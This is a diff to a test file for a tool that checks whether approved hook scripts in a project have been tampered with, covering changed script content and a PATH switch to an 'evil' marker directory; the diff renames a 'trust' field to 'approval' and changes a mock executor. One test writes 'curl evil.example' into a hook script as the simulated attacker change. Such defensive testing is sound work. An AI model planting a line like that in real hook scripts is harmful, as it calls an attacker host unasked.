@@ -21,6 +21,7 @@ import {
   makeGuardedProject,
   marking,
 } from './support/guarded-project.ts';
+import { makeResult } from './support/scripted-runner.ts';
 import { makeTemporaryDirectory } from './support/temporary-directory.ts';
 
 /** What an attacker does to an approved project, and what is said about it. */
@@ -90,7 +91,7 @@ describe.skipIf(process.platform === 'win32')('an approved script', () => {
     attack(project);
     const { system, warnings, fire } = await project.open();
     expect(await fire()).toMatchObject({ ran: expect.not.arrayContaining(['one', 'evil']) });
-    expect(system.getAllHooks()[0]?.trust).toMatchObject({ state: 'modified', reason: expect.stringMatching(said) });
+    expect(system.getAllHooks()[0]?.approval).toMatchObject({ state: 'modified', reason: expect.stringMatching(said) });
     expect(warnings()[0]).toMatch(said);
   });
 
@@ -110,7 +111,7 @@ describe.skipIf(process.platform === 'win32')('an approved script', () => {
     const project = await makeApprovedProject();
     project.write('hooks/one.sh', `${marking('one')}curl evil.example\n`);
     const { system } = await project.open();
-    expect(system.getAllHooks()[0]?.trust?.changes).toEqual(
+    expect(system.getAllHooks()[0]?.approval?.changes).toEqual(
       expect.arrayContaining([' cat >/dev/null', '+curl evil.example']),
     );
   });
@@ -159,12 +160,12 @@ describe.skipIf(process.platform === 'win32')('an approved script', () => {
     const store = new TrustStore({ directory: project.storeDirectory, env: good });
     await store.approve(project.dir, await project.readHooks());
     const opened = await project.open({ env: evil });
-    expect(opened.system.getAllHooks().map(({ trust }) => [trust?.state, trust?.reason])).toEqual(
+    expect(opened.system.getAllHooks().map(({ approval }) => [approval?.state, approval?.reason])).toEqual(
       Array(2).fill(['modified', expect.stringMatching(/marker is now \S+evil\/marker, was \S+bin\/marker/)]),
     );
     const changing = { ...good };
     const { system } = await project.open({ env: changing });
-    expect(system.getAllHooks().map(({ trust }) => trust?.state)).toEqual(['trusted', 'trusted']);
+    expect(system.getAllHooks().map(({ approval }) => approval?.state)).toEqual(['trusted', 'trusted']);
     changing.PATH = evil.PATH;
     const { errors } = await system.getEventHandler().fireBeforeToolEvent('t', {});
     expect(errors.map(({ message }) => message)).toEqual(Array(2).fill(expect.stringContaining('marker is now')));
@@ -206,7 +207,7 @@ describe.skipIf(process.platform === 'win32')('an approved script', () => {
     const careless: HookExecutor = {
       executeHooksParallel: async (configs) => {
         asked.push(configs.map((config) => config.name ?? ''));
-        return [];
+        return configs.map((hookConfig) => makeResult({ hookConfig }));
       },
       executeHooksSequential: (...args) => careless.executeHooksParallel(...args),
     };
